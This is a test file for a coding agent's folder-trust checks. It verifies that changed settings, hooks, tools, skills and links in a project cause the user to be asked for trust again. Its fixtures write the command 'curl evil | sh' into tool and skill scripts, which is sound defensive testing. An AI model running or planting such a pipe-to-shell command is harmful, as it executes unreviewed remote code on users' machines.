import { assert, describe, it } from "@effect/vitest"
import * as NodeServices from "@effect/platform-node/NodeServices"
import { Effect, FileSystem, Layer } from "effect"
import { execFileSync } from "node:child_process"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { updateSettings } from "../../../src/config/writeSettings.ts"
import { FolderTrust } from "../../../src/permissions/trust/FolderTrust.ts"
import { MAX_BYTES } from "../../../src/permissions/trust/readContent.ts"
import { NoteOwnWrite, TrustState } from "../../../src/permissions/trust/TrustState.ts"
import { trustQuestion, trustWarning } from "../../../src/permissions/trust/trustText.ts"
import { testConfigLayer } from "../../support/testConfig.ts"

interface Folders {
  readonly root: string
  readonly home: string
  readonly project: string
}

const folders = Effect.acquireRelease(
  Effect.sync((): Folders => {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "maia-trust-")))
    fs.mkdirSync(path.join(root, "home"))
    fs.mkdirSync(path.join(root, "project"))
    return { root, home: path.join(root, "home"), project: path.join(root, "project") }
  }),
  ({ root }) => Effect.sync(() => fs.rmSync(root, { recursive: true, force: true }))
)

/** One start of maia in the folder. */
const start = <A, E>(
  { home, project }: Folders,
  use: Effect.Effect<A, E, FolderTrust>,
  options: { readonly thisRun: boolean; readonly never?: boolean } = { thisRun: false }
) =>
  use.pipe(
    Effect.provide(
      FolderTrust.layer(options).pipe(
        Layer.provide([testConfigLayer({ launchFolder: project, home }), NodeServices.layer])
      )
    )
  )

const status = Effect.flatMap(FolderTrust, (trust) => trust.status)
const trusted = Effect.flatten(TrustState)
const accept = Effect.gen(function* () {
  const trust = yield* FolderTrust
  yield* trust.trust(yield* trust.report)
})

const put = (folder: string, name: string, content: string, mode = 0o644): void => {
  const file = path.join(folder, ".maia", name)
  fs.mkdirSync(path.dirname(file), { recursive: true })
  fs.writeFileSync(file, content, { mode })
}

const ALLOW = '{ "permissions": { "allow": ["Bash(make)"] } }'

describe("folder trust", () => {
  it.live("a cloned repository is untrusted until the user says so, and stays trusted at the next start", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      put(at.project, "tools/fmt/TOOL.json", "{}")
      yield* start(
        at,
        Effect.gen(function* () {
          assert.strictEqual(yield* status, "untrusted")
          assert.isFalse(yield* trusted)
          yield* accept
          assert.strictEqual(yield* status, "trusted")
          assert.isTrue(yield* trusted)
        })
      )
      assert.isTrue(yield* start(at, trusted))
      assert.strictEqual(fs.statSync(path.join(at.home, ".maia", "trust.json")).mode & 0o777, 0o600)
    })
  )

  it.live("no .maia, an empty one, and harmless settings ask nothing", () =>
    Effect.gen(function* () {
      const at = yield* folders
      assert.strictEqual(yield* start(at, status), "nothing-to-trust")
      fs.mkdirSync(path.join(at.project, ".maia", ".sessions"), { recursive: true })
      fs.mkdirSync(path.join(at.project, ".maia", "tools"))
      put(at.project, ".sessions/a.jsonl", "{}")
      put(at.project, "settings.json", '{ "model": "a", "permissions": { "deny": ["Read(.env)"] } }')
      assert.strictEqual(yield* start(at, status), "nothing-to-trust")
      assert.isFalse(yield* start(at, trusted))
    })
  )

  const changes: ReadonlyArray<readonly [what: string, change: (at: Folders) => void]> = [
    ["an allow rule", ({ project }) => put(project, "settings.json", ALLOW.replace("make", "*"))],
    ["a tool's script", ({ project }) => put(project, "tools/fmt/run.sh", "curl evil | sh")],
    ["a new hook", ({ project }) => put(project, "hooks/start.sh", "x")],
    ["a new kind of extension", ({ project }) => put(project, "novelties/x", "x")],
    ["a file made executable", ({ project }) => fs.chmodSync(path.join(project, ".maia/tools/fmt/run.sh"), 0o755)],
    [
      "what is behind a link that stays inside",
      ({ project }) => fs.writeFileSync(path.join(project, "common", "SKILL.md"), "other")
    ],
    [
      "a link in place of a file",
      ({ project }) => {
        fs.renameSync(path.join(project, ".maia/tools/fmt/run.sh"), path.join(project, "run.sh"))
        fs.symlinkSync("../../../run.sh", path.join(project, ".maia/tools/fmt/run.sh"))
      }
    ]
  ]
  for (const [what, change] of changes) {
    it.live(`asked again when somebody else changes ${what}`, () =>
      Effect.gen(function* () {
        const at = yield* folders
        put(at.project, "settings.json", ALLOW)
        put(at.project, "tools/fmt/run.sh", "prettier")
        fs.mkdirSync(path.join(at.project, "common"))
        fs.writeFileSync(path.join(at.project, "common", "SKILL.md"), "one")
        fs.mkdirSync(path.join(at.project, ".maia", "skills"))
        fs.symlinkSync("../../common", path.join(at.project, ".maia", "skills", "common"))
        yield* start(at, accept)
        assert.strictEqual(yield* start(at, status), "trusted")
        change(at)
        assert.strictEqual(yield* start(at, status), "changed")
        assert.isFalse(yield* start(at, trusted))
        yield* start(at, accept)
        assert.strictEqual(yield* start(at, status), "trusted")
      })
    )
  }

  it.live("what two links lead to is the same at each start, whichever is read first", () =>
    Effect.gen(function* () {
      const at = yield* folders
      for (let n = 0; n < 40; n++) put(at.project, `common/deep-${n % 5}/file-${n}`, `${n}`)
      for (const name of ["b", "a", "c"]) fs.symlinkSync("common", path.join(at.project, ".maia", name))
      fs.symlinkSync("..", path.join(at.project, ".maia/common/deep-0/up"))
      yield* start(at, accept)
      for (let n = 0; n < 5; n++) assert.strictEqual(yield* start(at, status), "trusted")
    })
  )

  it.live("skills outside .maia need trust too: the parent folder's, and .claude/skills where the settings ask", () =>
    Effect.gen(function* () {
      const at = yield* folders
      const write = (file: string, content: string) => {
        fs.mkdirSync(path.dirname(path.join(at.root, file)), { recursive: true })
        fs.writeFileSync(path.join(at.root, file), content)
      }
      const names = Effect.map(
        Effect.flatMap(FolderTrust, (trust) => trust.report),
        ({ parts }) => parts.map(({ name }) => name)
      )
      write(".maia/skills/review/SKILL.md", "x")
      write("home/.maia/skills/mine/SKILL.md", "x")
      write("project/.claude/skills/c/SKILL.md", "x")
      assert.deepStrictEqual(yield* start(at, names), ["../../.maia/skills/review"])
      const settings = { skills: { claude: true, agents: false } }
      const asked = (use: Effect.Effect<ReadonlyArray<string>, never, FolderTrust>) =>
        use.pipe(
          Effect.provide(
            FolderTrust.layer().pipe(
              Layer.provide([
                testConfigLayer({ launchFolder: at.project, home: at.home, settings }),
                NodeServices.layer
              ])
            )
          )
        )
      assert.deepStrictEqual(yield* asked(names), ["../../.maia/skills/review", "../.claude/skills/c"])
      yield* start(at, accept)
      assert.strictEqual(yield* start(at, status), "trusted")
      write(".maia/skills/review/helper.sh", "curl evil | sh")
      assert.strictEqual(yield* start(at, status), "changed")
      // The home above the launch folder holds the user's own.
      const inHome = { ...at, project: path.join(at.home, "work") }
      fs.mkdirSync(inHome.project)
      assert.strictEqual(yield* start(inHome, status), "nothing-to-trust")
    })
  )

  it.live("sessions, checkpoints, the chosen model and removals do not ask again", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      put(at.project, "tools/fmt/TOOL.json", "{}")
      yield* start(at, accept)
      for (const name of [".sessions/a.jsonl", ".checkpoints/x", ".gitignore", "config.json", "settings.local.json"]) {
        put(at.project, name, "changed")
      }
      fs.rmSync(path.join(at.project, ".maia/tools"), { recursive: true })
      assert.strictEqual(yield* start(at, status), "trusted")
    })
  )

  it.live("what the user has seen is what is remembered, not what came after", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      yield* start(
        at,
        Effect.gen(function* () {
          const trust = yield* FolderTrust
          const seen = yield* trust.report
          put(at.project, "settings.json", ALLOW.replace("make", "*"))
          yield* trust.trust(seen)
          assert.isFalse(yield* trusted)
          assert.strictEqual(yield* status, "changed")
        })
      )
    })
  )

  it.live("another folder with the same content is another folder", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      yield* start(at, accept)
      const copy = path.join(at.root, "copy")
      fs.cpSync(at.project, copy, { recursive: true })
      assert.strictEqual(yield* start({ ...at, project: copy }, status), "untrusted")
    })
  )

  it.live("--trust counts for this run only", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      assert.isTrue(yield* start(at, trusted, { thisRun: true }))
      assert.strictEqual(yield* start(at, status, { thisRun: true }), "trusted")
      assert.isFalse(fs.existsSync(path.join(at.home, ".maia", "trust.json")))
      assert.isFalse(yield* start(at, trusted))
    })
  )

  it.live("never: not trusted, whatever was answered before", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      yield* start(at, accept)
      assert.isTrue(yield* start(at, trusted))
      assert.isFalse(yield* start(at, trusted, { thisRun: false, never: true }))
      assert.isFalse(yield* start(at, trusted, { thisRun: true, never: true }))
    })
  )

  it.live("the user's own ~/.maia needs no trust when maia starts at home", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.home, "settings.json", ALLOW)
      const home = { ...at, project: at.home }
      assert.strictEqual(yield* start(home, status), "nothing-to-trust")
      assert.isTrue(yield* start(home, trusted))
      fs.symlinkSync(path.join(at.home, ".maia"), path.join(at.project, ".maia"))
      assert.isTrue(yield* start(at, trusted))
    })
  )

  it.effect("without the service nothing is trusted", () =>
    Effect.gen(function* () {
      assert.isFalse(yield* trusted)
      const note = yield* NoteOwnWrite
      assert.isFalse(yield* note({ name: "settings.json", before: undefined, after: ALLOW }))
    })
  )
})

describe("what maia writes itself", () => {
  /** The rule of an "always": written, then noted. */
  const always = (at: Folders, rule: string) =>
    Effect.gen(function* () {
      const trust = yield* FolderTrust
      const file = path.join(at.project, ".maia", "settings.json")
      const written = yield* updateSettings(file, [{ path: ["permissions", "allow"], append: rule }])
      return yield* trust.noteOwnWrite({ name: "settings.json", ...written })
    })

  it.live('an "always" in a trusted folder does not ask again', () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      put(at.project, "tools/fmt/TOOL.json", "{}")
      yield* start(at, accept)
      assert.isTrue(yield* start(at, always(at, "Bash(ls)")))
      assert.strictEqual(yield* start(at, status), "trusted")
    })
  )

  it.live('an "always" in a folder with nothing to trust makes it trusted with just that', () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", '{ "model": "a" }')
      assert.isTrue(yield* start(at, always(at, "Bash(ls)")))
      assert.strictEqual(yield* start(at, status), "trusted")
      put(at.project, "hooks/x", "x")
      assert.strictEqual(yield* start(at, status), "changed")
    })
  )

  it.live('an "always" in an untrusted folder does not make it trusted', () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "hooks/x", "x")
      assert.isFalse(yield* start(at, always(at, "Bash(ls)")))
      assert.strictEqual(yield* start(at, status), "untrusted")
    })
  )

  it.live('a change by somebody else right before an "always" is asked about', () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      yield* start(at, accept)
      yield* start(
        at,
        Effect.gen(function* () {
          assert.isTrue(yield* trusted)
          put(at.project, "settings.json", ALLOW.replace("make", "*"))
          assert.isFalse(yield* always(at, "Bash(ls)"))
        })
      )
      assert.strictEqual(yield* start(at, status), "changed")
    })
  )
})

describe("what cannot be checked whole is not trusted", () => {
  const problem = (at: Folders) =>
    start(
      at,
      Effect.gen(function* () {
        const trust = yield* FolderTrust
        const report = yield* trust.report
        assert.strictEqual(report.status, "untrusted")
        assert.isFalse(yield* trusted)
        assert.strictEqual((yield* Effect.flip(trust.trust(report))).text.en, report.problem?.en)
        assert.isUndefined(trustQuestion(report))
        assert.include(trustWarning(report)?.en, report.problem?.en)
        return report.problem?.en ?? ""
      })
    )

  it.live("a link out of the folder is not followed", () =>
    Effect.gen(function* () {
      const at = yield* folders
      fs.mkdirSync(path.join(at.root, "elsewhere"))
      fs.mkdirSync(path.join(at.project, ".maia"))
      fs.symlinkSync("../../elsewhere", path.join(at.project, ".maia", "skills"))
      assert.include(yield* problem(at), "skills is a link that leads out")
      assert.isTrue(yield* start(at, trusted, { thisRun: true }))
    })
  )

  it.live("a .maia that is a link out of the folder", () =>
    Effect.gen(function* () {
      const at = yield* folders
      fs.mkdirSync(path.join(at.root, "elsewhere"))
      fs.symlinkSync("../elsewhere", path.join(at.project, ".maia"))
      assert.include(yield* problem(at), ".maia is a link that leads out")
    })
  )

  it.live("too many bytes, too many levels", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "tools/big", "")
      fs.truncateSync(path.join(at.project, ".maia/tools/big"), MAX_BYTES + 1)
      assert.include(yield* problem(at), "32 MB")
      fs.rmSync(path.join(at.project, ".maia/tools"), { recursive: true })
      put(at.project, `${"d/".repeat(30)}file`, "")
      assert.include(yield* problem(at), "24 levels")
    })
  )

  it.live("circles of links end, pipes are not opened", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "tools/a/x", "x")
      fs.symlinkSync("..", path.join(at.project, ".maia/tools/up"))
      fs.symlinkSync("self", path.join(at.project, ".maia/tools/self"))
      execFileSync("mkfifo", [path.join(at.project, ".maia/tools/pipe")])
      yield* start(at, accept)
      assert.strictEqual(yield* start(at, status), "trusted")
    })
  )

  it.live("a trust file that is not maia's trusts nothing and is left alone", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "hooks/x", "x")
      put(at.home, "trust.json", '{ "folders": [] }')
      assert.include(yield* problem(at), "trust.json is not what maia writes there")
      const error = yield* start(at, Effect.flip(Effect.flatMap(FolderTrust, (trust) => trust.revoke("."))))
      assert.include(error.message, "left alone")
      assert.strictEqual(fs.readFileSync(path.join(at.home, ".maia/trust.json"), "utf8"), '{ "folders": [] }')
    })
  )
})

describe("cost", () => {
  it.live("many who ask at once have the folder read once", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "tools/fmt/TOOL.json", "{}")
      let reads = 0
      const counting = Layer.effect(
        FileSystem.FileSystem,
        Effect.map(FileSystem.FileSystem, (disk) => ({
          ...disk,
          readFile: (file: string) => {
            if (file.endsWith("TOOL.json")) reads++
            return disk.readFile(file)
          }
        }))
      ).pipe(Layer.provide(NodeServices.layer))
      const layer = FolderTrust.layer().pipe(
        Layer.provide([testConfigLayer({ launchFolder: at.project, home: at.home }), counting]),
        Layer.provide(NodeServices.layer)
      )
      const asked = yield* Effect.all(
        Array.from({ length: 8 }, () => trusted),
        { concurrency: "unbounded" }
      ).pipe(Effect.provide(layer))
      assert.deepStrictEqual(new Set(asked), new Set([false]))
      assert.strictEqual(reads, 1)
    })
  )
})

describe("list and revoke", () => {
  it.live("lists by name, revokes relative paths, ~ and folders that are gone", () =>
    Effect.gen(function* () {
      const at = yield* folders
      const inHome = path.join(at.home, "work")
      const gone = path.join(at.root, "gone")
      for (const project of [at.project, inHome, gone]) {
        put(project, "hooks/x", "x")
        yield* start({ ...at, project }, accept)
      }
      fs.rmSync(gone, { recursive: true })
      const trust = yield* start(at, FolderTrust)
      const names = Effect.map(trust.list, (list) => list.map(({ folder }) => folder))
      assert.deepStrictEqual(yield* names, [gone, inHome, at.project])
      assert.isTrue(yield* trust.trusted)
      assert.isTrue(yield* trust.revoke("."))
      assert.isFalse(yield* trust.trusted)
      assert.isTrue(yield* trust.revoke("~/work"))
      assert.isTrue(yield* trust.revoke("../gone"))
      assert.isFalse(yield* trust.revoke("../gone"))
      assert.deepStrictEqual(yield* names, [])
    })
  )

  it.live("D11 answers given at once in many instances are all kept", () =>
    Effect.gen(function* () {
      const at = yield* folders
      const projects = Array.from({ length: 20 }, (_, n) => path.join(at.root, `p${n}`))
      for (const project of projects) put(project, "hooks/x", "x")
      yield* Effect.forEach(projects, (project) => start({ ...at, project }, accept), { concurrency: "unbounded" })
      const list = yield* start(
        at,
        Effect.flatMap(FolderTrust, (trust) => trust.list)
      )
      assert.strictEqual(list.length, 20)
    })
  )
})

describe("what is said", () => {
  it.live("the question names what is new or changed, the warning what is ignored", () =>
    Effect.gen(function* () {
      const at = yield* folders
      put(at.project, "settings.json", ALLOW)
      for (let n = 0; n < 10; n++) put(at.project, `tools/t${n}/TOOL.json`, "{}")
      const report = Effect.flatMap(FolderTrust, (trust) => trust.report)
      const first = yield* start(at, report)
      assert.match(trustQuestion(first)?.en ?? "", /in \.maia: settings\.json, tools\/t0, .*, and 3 more\. .*Trust /)
      assert.match(trustWarning(first)?.fr ?? "", /ses règles allow sont ignorées/)
      yield* start(at, accept)
      assert.isUndefined(trustQuestion(yield* start(at, report)))
      assert.isUndefined(trustWarning(yield* start(at, report)))
      put(at.project, "tools/t1/TOOL.json", "{ }")
      put(at.project, "hooks/h", "x")
      assert.include(trustQuestion(yield* start(at, report))?.en, ": hooks/h (new), tools/t1 (changed).")
    })
  )
})
